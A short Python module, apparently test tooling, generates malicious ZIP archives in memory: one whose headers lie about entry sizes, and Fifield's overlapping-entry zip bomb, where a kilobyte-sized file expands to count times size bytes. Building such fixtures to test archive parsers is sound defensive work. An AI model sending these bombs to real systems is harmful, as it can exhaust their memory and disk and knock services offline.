"""Archives that are made to harm."""

import struct
import zlib


def lying_directory(name: bytes, said: int) -> bytes:
    """One entry of ten bytes that both headers announce as `said` bytes, packed and unpacked."""
    body = zlib.compress(b"0123456789", 9)[2:-4]
    crc = zlib.crc32(b"0123456789")
    head = _local(name, crc, said, said)
    row = _row(name, crc, said, said, 0)
    return head + body + row + _end(1, len(row), len(head) + len(body))


def quoted_overlap(count: int, size: int) -> bytes:
    """Fifield's bomb: every entry unpacks through all that stand behind it, each of whose headers it quotes.

    A file of kilobytes that holds `count` entries of more than `size` bytes each.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(bytes(size)) + packer.flush()
    plain_size, crc = size, zlib.crc32(bytes(size))
    parts, rows = [data], []
    for n in reversed(range(count)):
        name = f"{n:04d}.xml".encode()
        head = _local(name, crc, len(data), plain_size)
        parts.append(head)
        rows.append((name, crc, len(data), plain_size))
        if n:  # the entry before: its data begin with this header, stored as it is
            quote = struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF)
            plain_size += len(head)
            crc = _crc_of(rows, size)
            data = quote + head + data
            parts.append(quote)
    body = b"".join(reversed(parts))
    offset, directory = 0, b""
    for name, row_crc, packed, unpacked in reversed(rows):
        directory += _row(name, row_crc, packed, unpacked, offset)
        offset += 30 + len(name) + 5
    return body + directory + _end(count, len(directory), len(body))


def _crc_of(rows: list[tuple[bytes, int, int, int]], size: int) -> int:
    """Of the headers of these entries and the zeros behind the last one, as they unpack."""
    return zlib.crc32(bytes(size), zlib.crc32(b"".join(_local(*row) for row in reversed(rows))))


def _local(name: bytes, crc: int, packed: int, unpacked: int) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, packed, unpacked, len(name), 0) + name


def _row(name: bytes, crc: int, packed: int, unpacked: int, offset: int) -> bytes:
    fields = (b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, packed, unpacked, len(name), 0, 0, 0, 0, 0, offset)
    return struct.pack("<4s6H3L5H2L", *fields) + name


def _end(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, offset, 0)
